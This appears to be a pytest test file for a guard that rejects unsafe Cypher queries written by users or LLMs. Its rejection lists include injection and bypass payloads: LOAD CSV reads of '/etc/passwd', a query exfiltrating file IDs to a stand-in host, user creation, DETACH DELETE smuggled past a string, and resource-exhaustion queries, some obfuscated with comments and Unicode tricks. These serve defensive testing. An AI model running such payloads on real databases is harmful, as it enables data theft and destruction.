"""The lexical guard in front of EXPLAIN for user- and LLM-written Cypher."""

from __future__ import annotations

import pytest

from core.errors import UnsafeQueryError
from graph.readonly.guard import MAX_TIMEOUT_S, check_lexically, clamp_timeout
from graph.readonly.plan import check_plan


@pytest.mark.parametrize("cypher", [
    "CREATE (n:X)", "MATCH (c) MERGE (c)-[:R]->(:X)", "MATCH (c) SET c.x = 1", "MATCH (c) DELETE c",
    "MATCH (c) DETACH DELETE c", "MATCH (c) REMOVE c.x", "LOAD CSV FROM 'file:///x' AS row RETURN row",
    "CALL dbms.listConfig()", "CALL dbms.security.createUser('a','b')", "CALL apoc.periodic.iterate('a','b',{})",
    "MATCH (c) CALL (c) { WITH c RETURN c } IN TRANSACTIONS RETURN c", "MATCH (n) RETURN n; MATCH (m) RETURN m",
    "DROP INDEX x", "MATCH (c) FOREACH (x IN [1] | SET c.y = x)", "", "   ;  ",
    "match (c) detach delete c", "CALL db.createLabel('X')",
])
def test_rejected(cypher: str) -> None:
    with pytest.raises(UnsafeQueryError):
        check_lexically(cypher)


@pytest.mark.parametrize("cypher", [
    "MATCH (c:Contract) RETURN count(c)",
    "MATCH (c:Contract) WHERE c.summary CONTAINS 'CREATE; DELETE' RETURN c.file_id",
    "RETURN \"SET x\" AS s // DELETE in a comment",
    "CALL db.index.fulltext.queryNodes('contract_text', 'x') YIELD node RETURN node.file_id",
    "MATCH (c:Contract) CALL (c) { RETURN 1 AS one } RETURN c.file_id, one;",
    "MATCH (c:Contract) WITH c.created_at AS created RETURN created",
])
def test_accepted(cypher: str) -> None:
    assert check_lexically(cypher)


@pytest.mark.parametrize("cypher", [
    "LOAD/**/CSV FROM 'http://127.0.0.1:1/probe.csv' AS r RETURN r",
    "LOAD/* a comment */CSV FROM 'file:///etc/passwd' AS r RETURN r",
    "LOAD// line comment\nCSV FROM 'file:///etc/passwd' AS r RETURN r",
    "LOAD\u00a0CSV FROM 'x' AS r RETURN r", "LOAD\u3000CSV FROM 'x' AS r RETURN r",
    "load\u2028csv FROM 'x' AS r RETURN r", "LOAD\u2003CSV FROM 'x' AS r RETURN r",
    "ＬＯＡＤ ＣＳＶ FROM 'x' AS r RETURN r",  # fullwidth letters fold to LOAD CSV
    "MATCH (c) WITH c LOAD/**/CSV FROM 'http://h/x?leak=' + c.file_id AS r RETURN count(r) AS fetched",
    "MATCH (c) SET/**/c.x = 1", "SHOW SETTINGS", "SHOW TRANSACTIONS", "SHOW USERS",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "CALL db.labels", "CALL db.labels()",
    "CALL `dbms`.`listConfig`()", "CALL dbms/**/.listConfig()", "CALL { RETURN 1 AS x } IN/**/TRANSACTIONS RETURN x",
    "MATCH (c) RETURN c /* unterminated", "RETURN 'unterminated", "RETURN `unterminated",
    "LO\u200bAD CSV FROM 'x' AS r RETURN r", "RETURN 1 AS x\u200b", "RETURN 1;RETURN 2",
    "RETURN 1 /* ; */ ; RETURN 2", "RETURN range(1, 200000) AS r",
    "RETURN size(reduce(s='', x IN range(1,200000) | s + 'xxxxxxxxxx')) AS n",
    "RETURN size([x IN range(1,200000000) WHERE x % 7 = 0]) AS n",
    "RETURN size(reduce(s='', x IN range(1,30000000) | s + 'xxxxxxxxxx')) AS n",
    "RETURN range(1, toInteger('300000')) AS r",
    "RETURN size([x IN range(1,10000) WHERE size([y IN range(1,10000) WHERE y = x]) > 0]) AS n",
    "RETURN RANGE(0, 10, 0) AS r", "RETURN range(1) AS r",
    "RETURN 'a\\' LOAD CSV FROM' AS s; MATCH (n) DETACH DELETE n",
])
def test_bypass_attempts_rejected(cypher: str) -> None:
    with pytest.raises(UnsafeQueryError):
        check_lexically(cypher)


@pytest.mark.parametrize("cypher", [
    "RETURN 'LOAD CSV FROM x' AS s", "RETURN \"it\\\"s SET\" AS s", "RETURN 'it\\'s DELETE' AS s",
    "MATCH (c:Contract) RETURN c.file_id AS `SET`", "MATCH (c:Contract) RETURN c.`DELETE` AS x",
    "MATCH (c:Contract) RETURN c.set AS s, c.show AS t", "RETURN $set AS x",
    "MATCH (c:Contract)\u00a0RETURN\u3000count(c) AS n", "RETURN range(1, 10) AS r",
    "RETURN [x IN range(0, 10000, 2) | x] AS r", "RETURN range(-5, 5) AS r, range(10, 1, -1) AS s",
    "RETURN size([x IN range(1, 5000) WHERE size([y IN range(1, 5000) WHERE y = x]) > 0]) AS n",
    "RETURN 1 AS x /* LOAD CSV */", "RETURN 1 AS x // SHOW SETTINGS",
    "CALL db.index.vector.queryNodes('section_embedding', 3, $v) YIELD node RETURN node.id AS id",
])
def test_safe_statements_with_keywords_elsewhere_accepted(cypher: str) -> None:
    assert check_lexically(cypher)


@pytest.mark.parametrize("value", [0, 0.0, -1, -0.5, float("nan"), float("inf"), float("-inf"), "10", None, True])
def test_timeout_outside_range_is_refused(value: object) -> None:
    with pytest.raises(UnsafeQueryError, match="timeout"):
        clamp_timeout(value)


def test_timeout_is_clamped_to_the_maximum() -> None:
    assert clamp_timeout(100000) == MAX_TIMEOUT_S
    assert clamp_timeout(MAX_TIMEOUT_S) == MAX_TIMEOUT_S
    assert clamp_timeout(2) == 2.0 and clamp_timeout(0.25) == 0.25


def test_plan_allow_list_refuses_load_csv_show_and_other_procedures() -> None:
    def plan(op: str, details: str = "") -> dict:
        return {"operatorType": "ProduceResults@neo4j", "args": {},
                "children": [{"operatorType": op, "args": {"Details": details}, "children": []}]}

    for op in ("LoadCSV@neo4j", "ShowSettings@neo4j", "ShowTransactions@neo4j", "TerminateTransactions@neo4j",
               "Create@neo4j", "SetProperty@neo4j", "TransactionForeach@neo4j", "AdministrationCommand@system"):
        with pytest.raises(UnsafeQueryError, match="plan operator"):
            check_plan(plan(op))
    with pytest.raises(UnsafeQueryError, match=r"db\.labels"):
        check_plan(plan("ProcedureCall@neo4j", "db.labels() :: (label :: STRING)"))
    with pytest.raises(UnsafeQueryError):
        check_plan(None)
    ok = plan("ProcedureCall@neo4j", "db.index.fulltext.queryNodes($autostring_0, $autostring_1) :: (node :: NODE)")
    assert check_plan(ok) == ["ProduceResults", "ProcedureCall"]
    assert check_plan(plan("Expand(All)@neo4j")) == ["ProduceResults", "Expand"]
